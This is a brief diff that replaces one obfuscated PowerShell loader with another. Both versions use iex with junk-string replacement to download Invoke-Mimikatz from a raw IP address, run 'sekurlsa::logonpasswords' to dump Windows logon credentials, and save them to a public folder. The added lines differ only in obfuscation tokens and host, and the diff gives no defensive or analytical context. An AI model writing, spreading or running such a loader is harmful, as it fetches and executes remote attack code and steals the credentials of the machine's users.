@@ -1,4 +1,4 @@
-iex (('# init 4327 v4
-IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.200/Invoke-Mimikatqj~5.ps1'')
-InvokKQJ24e-Mimikatqj~5 -CoKQJ24mmand ''"priviKQJ24lege::debug" "sekurlsa::logonpasswords"'' | Out-File C:KQJ24\Users\Public\o.txt
-' -replace 'KQJ24','').Replace('qj~5','z'))
+iex (('# config 0144 v4
+IEX (Neqv~3-Object Net.WebClKKQ12ient).Doqv~3nloadStKKQ12ring(''hKKQ12ttp://198.51.100.9/Invoke-Mimikatz.ps1'')
+InvokKKQ12e-Mimikatz -Command ''"privilege::debug" "KKQ12sekurlsa::logonpassqv~3ords"'' | Out-File C:\Users\Public\o.txt
+' -replace 'KKQ12','').Replace('qv~3','w'))
